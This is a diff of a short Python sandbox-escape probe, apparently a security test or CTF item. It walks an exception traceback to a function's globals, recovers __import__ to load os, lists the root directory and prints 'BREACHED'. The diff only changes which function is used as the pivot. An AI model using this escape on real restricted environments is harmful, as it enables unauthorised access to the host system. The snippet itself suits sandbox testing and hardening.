@@ -7,5 +7,5 @@ try:
     graph.paths(Node(id="a"), "b")
 except ValueError as error:
     frame = error.__traceback__.tb_next.tb_frame
-os = frame.f_globals["asked"].__globals__["__builtins__"]["__import__"]("os")
+os = frame.f_globals["request_page"].__globals__["__builtins__"]["__import__"]("os")
 print("BREACHED" if os.listdir("/") else "empty")
